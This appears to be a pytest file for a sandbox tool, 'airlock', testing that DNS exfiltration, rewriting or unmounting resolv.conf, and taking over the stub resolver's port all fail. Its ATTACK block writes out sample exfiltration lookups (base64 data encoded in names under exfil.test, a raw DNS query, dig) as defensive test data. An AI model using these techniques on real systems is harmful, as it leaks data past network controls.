"""The sandbox's stub resolver as a way out: DNS exfiltration (data encoded
in names) must never reach a name server, and the command can neither
replace /etc/resolv.conf nor take over the stub's port.

The exfiltration test runs airlock in a private user, mount and network
namespace (unshare -rmn) whose /etc/resolv.conf names a catching name
server on that namespace's 127.0.0.1:53: any query airlock itself sent
(the stub forwarding one, or resolving a name it was asked about) would
land there. A control run proves the catcher sees airlock's queries."""
import os
import subprocess

from conftest import AIRLOCK
from runutil import ATTEMPT, PY, py

CATCHER = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
open(sys.argv[1] + ".ready", "w").close()
log = open(sys.argv[1], "a", buffering=1)
while True:
    data, addr = s.recvfrom(4096)
    i, labels = 12, []
    while i < len(data) and data[i] and i + 1 + data[i] <= len(data):
        labels.append(data[i + 1:i + 1 + data[i]].decode("ascii", "replace"))
        i += 1 + data[i]
    log.write(".".join(labels) + "\n")
    # NXDOMAIN echoing the question: a resolver gives up at once.
    s.sendto(data[:2] + b"\x81\x83\x00\x01" + bytes(6) + data[12:i + 5], addr)
"""

# Runs in the private namespaces. Lookups that carry data: through the C
# library (allowed wildcard, denied, unlisted), a hand-made query straight
# at the stub, and dig; then, as the control, a request the proxy must
# resolve itself.
SCRIPT = r"""
set -e
mount --bind "$ROOT/resolv.conf" "$RESOLV"
ip link set lo up
"$PY" "$ROOT/catcher.py" "$ROOT/queries" &
cpid=$!
i=0
while [ ! -e "$ROOT/queries.ready" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
: >"$ROOT/queries"
"$AIRLOCK" run --network --allow '*.exfil.test' --deny '**.secret.test' -- \
	sh -c "$ATTACK" >"$ROOT/attack.out" 2>"$ROOT/attack.err" || true
cp "$ROOT/queries" "$ROOT/queries.attack"
"$AIRLOCK" run --network --mode full --allow control.test -- \
	curl -s -m 20 -o /dev/null -w '%{http_code}' http://control.test/ \
	>"$ROOT/control.out" 2>&1 || true
kill $cpid
"""

ATTACK = r"""
getent hosts c2VjcmV0.exfil.test
getent hosts c2VjcmV0.x.secret.test || echo denied
getent hosts c2VjcmV0.other.test || echo unlisted
"$PY" -c '
import socket
q = bytes.fromhex("abcd01000001000000000000") + b"\x04data\x05exfil\x04test\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, ("127.0.0.1", 53))
r = s.recv(512)
print("direct", ".".join(str(b) for b in r[-4:]))
'
dig +tries=1 +time=5 +short @127.0.0.1 ZGln.exfil.test TXT || true
"""


def test_escape_dns_exfiltration_never_reaches_a_name_server(airlock_env, tmp_path):
    resolv = os.path.realpath("/etc/resolv.conf")
    assert os.path.isfile(resolv)
    (tmp_path / "resolv.conf").write_text("nameserver 127.0.0.1\n")
    (tmp_path / "catcher.py").write_text(CATCHER)
    env = dict(airlock_env.env, AIRLOCK=str(AIRLOCK), ROOT=str(tmp_path),
               RESOLV=resolv, PY=PY, ATTACK=ATTACK)
    r = subprocess.run(["unshare", "-rmn", "sh", "-c", SCRIPT], env=env,
                       cwd=str(airlock_env.cwd), capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    out = (tmp_path / "attack.out").read_text().splitlines()
    assert out, (tmp_path / "attack.err").read_text()
    # The stub answered every lookup itself...
    assert out[0].split()[1] == "c2VjcmV0.exfil.test"
    assert out[0].startswith("198.1")
    assert out[1:3] == ["denied", "unlisted"]
    assert out[3].startswith("direct 198.1")
    err = (tmp_path / "attack.err").read_text()
    assert "c2vjcmv0.x.secret.test (dns lookup) denied" in err
    assert "c2vjcmv0.other.test (dns lookup) not_allowed" in err
    # ...and no query reached the name server airlock itself would use.
    assert (tmp_path / "queries.attack").read_text() == ""
    # Control: the proxy resolving a name it was asked to fetch does reach
    # it (and gets NXDOMAIN: 502), so the catcher would have seen a leak.
    assert (tmp_path / "control.out").read_text() == "502"
    assert "control.test" in (tmp_path / "queries").read_text().split()


def attempt(airlock_env, body):
    p = airlock_env.run("run", "--network", "--", *py(ATTEMPT + body))
    assert p.returncode == 0, p.stderr
    return p.stdout.strip()


def test_escape_resolv_conf_cannot_be_rewritten(airlock_env):
    out = attempt(airlock_env,
                  "attempt(lambda: open('/etc/resolv.conf', 'w'))")
    assert out == "ERR EROFS"


def test_escape_resolv_conf_cannot_be_unmounted(airlock_env):
    out = attempt(airlock_env,
                  "libc = ctypes.CDLL(None, use_errno=True)\n"
                  "def f():\n"
                  "    if libc.umount2(b'/etc/resolv.conf', 2) != 0:\n"
                  "        raise OSError(ctypes.get_errno(), 'umount2')\n"
                  "attempt(f)")
    assert out == "ERR EPERM"


def test_escape_stub_port_cannot_be_taken_over(airlock_env):
    out = attempt(airlock_env,
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                  "attempt(lambda: s.bind(('127.0.0.1', 53)))")
    assert out == "ERR EACCES"
